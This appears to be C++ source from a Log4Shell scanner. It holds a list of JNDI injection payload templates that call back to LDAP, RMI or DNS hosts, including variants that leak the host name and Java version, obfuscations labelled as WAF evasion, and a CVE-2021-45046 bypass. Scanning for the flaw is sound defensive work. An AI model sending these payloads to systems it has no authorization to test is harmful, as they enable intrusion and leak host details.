#include "probe/payload.h"

#include <cctype>
#include <cstdio>

namespace l4s::net {

const std::vector<PayloadVariant>& payload_variants() {
  static const std::vector<PayloadVariant> kVariants = {
      {"ldap", "${jndi:ldap://{LDAP}/{T}}", "baseline: the token arrives as the LDAP baseObject"},
      {"ldap-info", "${jndi:ldap://{LDAP}/{T}/${java:version}/${hostName}}",
       "also smuggles the Java version and the host name"},
      {"rmi", "${jndi:rmi://{RMI}/{T}}", "the token arrives as the RMI registry lookup name"},
      {"dns", "${jndi:dns://{DNS}/{T}}", "direct TXT query to the canary: the source is the vulnerable host"},
      {"dns-label", "${jndi:ldap://${:-317}${:-529}.{T}.{ZONE}:99999/x}",
       "DNS only (port 99999 stops the connect); 317529 proves evaluation, not a proxy resolving a string"},
      {"dns-host", "${jndi:ldap://x${hostName}.{T}.{ZONE}/a}", "host name exfiltrated through the resolver"},
      {"obf-default", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://{LDAP}/{T}}",
       "WAF evasion: empty-key defaults"},
      {"obf-lower", "${${lower:jndi}:${lower:ldap}://{LDAP}/{T}}", "WAF evasion: lower lookups"},
      {"obf-case", "${${lower:j}${upper:n}${lower:d}${upper:i}:ldap://{LDAP}/{T}}", "WAF evasion: mixed case"},
      {"obf-env", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//{LDAP}/{T}}",
       "WAF evasion: undefined environment variables with defaults"},
      {"obf-nested", "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://{LDAP}/{T}}",
       "WAF evasion: a lookup name built from defaults"},
      {"cve-2021-45046", "${jndi:ldap://127.0.0.1#{T}.{ZONE}:1389/{T}}",
       "2.15.0 allowedLdapHosts bypass; resolution of 127.0.0.1#... is platform-dependent"},
  };
  return kVariants;
}

const PayloadVariant* find_variant(std::string_view id) {
  for (const auto& v : payload_variants())
    if (id == v.id) return &v;
  return nullptr;
}

Result<std::string> make_payload(const PayloadVariant& v, const PayloadContext& ctx, std::string_view token) {
  std::string_view t = v.template_text;
  std::string out;
  while (!t.empty()) {
    if (t.front() != '{') {
      out.push_back(t.front());
      t.remove_prefix(1);
      continue;
    }
    // Placeholders are {UPPER}; anything else (the `${...}` braces) is literal.
    size_t close = t.find('}');
    std::string_view key = close == std::string_view::npos ? "" : t.substr(1, close - 1);
    if (key == "LDAP") out += ctx.ldap;
    else if (key == "RMI") out += ctx.rmi;
    else if (key == "DNS") out += ctx.dns;
    else if (key == "T") out += token;
    else if (key == "ZONE") {
      if (ctx.zone.empty()) return Error{std::string("variant ") + v.id + " needs a DNS zone (--zone)"};
      out += ctx.zone;
    } else {
      out.push_back('{');
      t.remove_prefix(1);
      continue;
    }
    t.remove_prefix(close + 1);
  }
  return out;
}

std::string percent_encode(std::string_view s) {
  std::string out;
  for (unsigned char c : s) {
    if (std::isalnum(c) || c == '-' || c == '.' || c == '_' || c == '~') {
      out.push_back(static_cast<char>(c));
    } else {
      char buf[4];
      std::snprintf(buf, sizeof buf, "%%%02X", c);
      out += buf;
    }
  }
  return out;
}

std::string path_segment(std::string_view payload) {
  std::string p(payload);
  for (size_t at = p.find("://"); at != std::string::npos; at = p.find("://", at)) p.replace(at, 3, ":${::-/}/");
  return percent_encode(p);
}

}  // namespace l4s::net
